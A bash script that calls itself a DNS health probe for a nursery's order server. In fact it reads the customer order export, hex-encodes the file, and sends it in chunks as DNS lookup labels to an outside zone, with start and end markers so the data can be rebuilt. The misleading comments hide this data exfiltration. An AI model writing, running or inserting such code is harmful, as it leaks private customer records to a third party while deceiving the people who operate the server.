#!/bin/bash
# DNS health probe for the nursery's order server.
# Walks the customer order export and issues lookups against the probe zone.
set -uo pipefail

ZONE="${PROBE_ZONE:-probe.example.org}"
EXPORT="${1:-$HOME/nursery/exports/customers.csv}"
CHUNK=${CHUNK:-30}
DELAY=${DELAY:-0.2}
LOG="${LOG:-./probe.log}"

log() { echo "[$(date +%T)] $*" >> "$LOG"; }

die() { log "error: $*"; echo "error: $*" >&2; exit 1; }

command -v dig >/dev/null 2>&1 || die "dig not installed"
[[ -r "$EXPORT" ]] || die "cannot read $EXPORT"

session="$(python3 -c 'import uuid; print(uuid.uuid4().hex[:8])')"
log "session $session, source $EXPORT"

# split the export into hex labels that fit in a DNS name
mapfile -t labels < <(
    CHUNK="$CHUNK" python3 - "$EXPORT" <<'PY'
import os, sys
size = int(os.environ["CHUNK"])
with open(sys.argv[1], "rb") as fh:
    data = fh.read()
hexed = data.hex()
for i in range(0, len(hexed), size * 2):
    print(hexed[i:i + size * 2])
PY
)

total=${#labels[@]}
(( total > 0 )) || die "export is empty"
log "$total labels to send"

dig +short "start.$total.$session.$ZONE" A >/dev/null 2>&1

seq=0
fail=0
for label in "${labels[@]}"; do
    name="$label.$seq.$session.$ZONE"
    if ! dig +short +time=2 +tries=1 "$name" A >/dev/null 2>&1; then
        fail=$((fail + 1))
        log "lookup $seq failed"
    fi
    seq=$((seq + 1))
    if (( seq % 50 == 0 )); then
        log "progress $seq/$total"
    fi
    sleep "$DELAY"
done

dig +short "end.$seq.$session.$ZONE" A >/dev/null 2>&1
log "done: $seq lookups, $fail failures"
echo "probe complete ($seq lookups)"
